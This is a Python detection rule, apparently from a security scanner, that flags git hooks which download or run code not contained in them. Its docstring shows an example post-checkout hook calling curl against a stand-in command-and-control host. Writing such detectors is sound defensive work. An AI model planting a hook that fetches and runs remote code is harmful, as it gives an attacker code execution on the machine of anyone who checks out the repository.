"""A git hook downloads, or runs code that is not in it.

What it sees
    A program that a git hook started is a downloader, fetches and runs something, or is an interpreter with
    long code on its command line.

Why it matters
    Hooks come with a repository that is handed over as an archive, and run at the next checkout, commit or
    merge.

Example
    git checkout -> .git/hooks/post-checkout -> curl -s https://c2.test/x

What to do
    Read .git/hooks; set core.hooksPath to an empty folder for repositories of strangers.

False alarms
    Hooks of your own that fetch linters.

References
    ATT&CK T1546, T1204.002.
"""

import re
from collections.abc import Iterator

from lazaretto.detect.behaviour import Behaviour
from lazaretto.detect.live.toolchains import is_interpreter
from lazaretto.detect.programs import DOWNLOADERS, PIPED, SHELLS, code_of, command, name_of
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.behaviour import Program
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_

_HOOK = re.compile(r"(?:^|/)(?:\.git/hooks|\.githooks|git-templates?/hooks)/[a-z-]{3,40}$")
_LONG = 200


def check(behaviour: Behaviour) -> Iterator[Match]:
    """One match for each such program."""
    for index, program in behaviour.own:
        chain = behaviour.record.chain(index)
        hook = next((at for at, one in enumerate(chain) if _is_hook(one)), -1)
        if hook < 0 or not any(one.tool == "git" for one in chain[:hook]):
            continue
        code, name = code_of(program), name_of(program)
        fetched = name in DOWNLOADERS or (name in SHELLS and PIPED.search(code[:4000]) is not None)
        if fetched or (is_interpreter(program.path) and len(code) >= _LONG):
            yield Match(
                N_("a git hook ran {command}"),
                path=behaviour.record.project,
                params={"command": command(program), "who": behaviour.doer(index)},
                excerpt=" ".join(program.argv),
                process=index,
            )


def _is_hook(program: Program) -> bool:
    return any(_HOOK.search(word) for word in (program.path, *program.argv[:3]))


RULE = Rule(
    id="run/git-hook-runs-download",
    title=N_("A git hook downloads, or runs code that is not in it"),
    view=Behaviour,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    phase=Phase.OPEN,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1546", "T1204.002"),
    state="experimental",
)
